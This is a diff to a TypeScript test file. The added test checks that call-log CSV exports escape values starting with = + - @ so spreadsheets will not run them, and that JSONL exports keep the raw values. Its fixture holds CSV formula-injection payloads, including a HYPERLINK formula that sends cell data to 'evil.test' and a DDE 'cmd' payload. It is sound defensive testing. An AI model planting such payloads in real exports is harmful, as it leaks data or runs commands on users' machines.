@@ -7,6 +7,7 @@ import { insertCalls, makeTenantIn } from "../../audit/test/fixtures.ts";
 import type { Actor } from "../../auth/actor.ts";
 import { execFile } from "node:child_process";
 import { promisify } from "node:util";
+import { parse } from "csv-parse/sync";
 import { sealAll } from "../../audit/seal/seal.ts";
 import { exportFile, getExport, runExport, startExport } from "./jobs.ts";
 
@@ -17,6 +18,8 @@ let auditor: Actor;
 let smallTenant: Actor;
 const MILLION = 1_000_000;
 const day = new Date(Date.UTC(2026, 10, 3));
+const formulaHour = new Date(Date.UTC(2026, 10, 5, 10));
+const FORMULA = { requestId: '=HYPERLINK("http://evil.test/?"&A1,"open")', replica: "+cmd|' /C calc'!A0", region: "-2+3", errorClass: "@SUM(1+1)", userHash: "'=already quoted" };
 
 async function actorIn(role: Actor["role"], tenantId: string | null = null): Promise<Actor> {
   const u = await own.db.user.create({ data: { email: `${role}-${Math.random().toString(36).slice(2)}@t.local`, name: role, passwordHash: "x", membership: { create: { role, tenantId } } } });
@@ -37,6 +40,14 @@ beforeAll(async () => {
     [big, day],
   );
   await insertCalls(own.pool, Array.from({ length: 10 }, (_, i) => ({ tenantId: small, startedAt: new Date(day.getTime() + i * 1000) })));
+  // Text a client or an operator chose, written as a spreadsheet would run it, in an hour of its own.
+  const at = `$6::timestamptz AT TIME ZONE 'UTC'`;
+  await own.pool.query(
+    `INSERT INTO "CallLog" ("requestId", "tenantId", "apiKeyId", "endpointId", "endpointVersionId", replica, region, "clientIp", "startedAt", "endedAt", "ttftMs", status, "errorClass", "promptTokens", "completionTokens", "userHash")
+     VALUES ($1, $2, 'key-1', 'ep-1', 'ev-1', $3, $4, '10.0.0.1', ${at}, ${at} + interval '1 s', 30, 500, $5, 7, 9, $7),
+            ('plain-id', $2, 'key-1', 'ep-1', 'ev-1', 'rep-1', 'tr-ist', '10.0.0.1', ${at} + interval '2 s', ${at} + interval '3 s', 30, 200, NULL, 7, 9, NULL)`,
+    [FORMULA.requestId, await makeTenantIn(own.pool), FORMULA.replica, FORMULA.region, FORMULA.errorClass, formulaHour, FORMULA.userHash],
+  );
   auditor = await actorIn("auditor");
   smallTenant = await actorIn("tenant", small);
 }, 240_000);
@@ -162,4 +173,26 @@ describe("call-log exports", () => {
       fs.rmSync(file);
     }
   }, 120_000);
+
+  it("writes text starting with = + - @ as text a spreadsheet will not run, and the verifier still rebuilds the sealed hour", async () => {
+    await sealAll(own.pool, { graceMinutes: 60 });
+    const filter = { from: formulaHour, to: new Date(formulaHour.getTime() + 3_600_000) };
+    const run = promisify(execFile);
+    const files: Record<string, string> = {};
+    for (const format of ["csv", "jsonl"] as const) {
+      const job = await startExport({ db: own.db, actor: auditor, ip: null }, { format, filter }, { run: false });
+      await runExport(own.db, job.id);
+      files[format] = exportFile(job.id, format, "data");
+      const ok = await run("node", ["scripts/verify-export.mjs", files[format], exportFile(job.id, format, "manifest")]);
+      expect(ok.stdout).toContain("1 sealed hours rebuilt from the rows");
+    }
+    const [head, evil, plain] = fs.readFileSync(files.csv!, "utf8").split("\r\n").map((l) => parse(l.replace(/^\uFEFF/, ""))[0] as string[]);
+    const cell = (row: string[], col: string) => row[head!.indexOf(col)];
+    expect(["requestId", "replica", "region", "errorClass", "userHash"].map((c) => cell(evil!, c))).toEqual([`'${FORMULA.requestId}`, `'${FORMULA.replica}`, `'${FORMULA.region}`, `'${FORMULA.errorClass}`, `'${FORMULA.userHash}`]);
+    // Ordinary text and the numbers are written as they are.
+    expect(["requestId", "region", "status", "promptTokens", "ttftMs"].map((c) => cell(plain!, c))).toEqual(["plain-id", "tr-ist", "200", "7", "30"]);
+    // JSON lines are data, not a spreadsheet: the values as stored.
+    const lines = fs.readFileSync(files.jsonl!, "utf8").trim().split("\n").map((l) => JSON.parse(l));
+    expect(lines[0]).toMatchObject(FORMULA);
+  }, 60_000);
 });
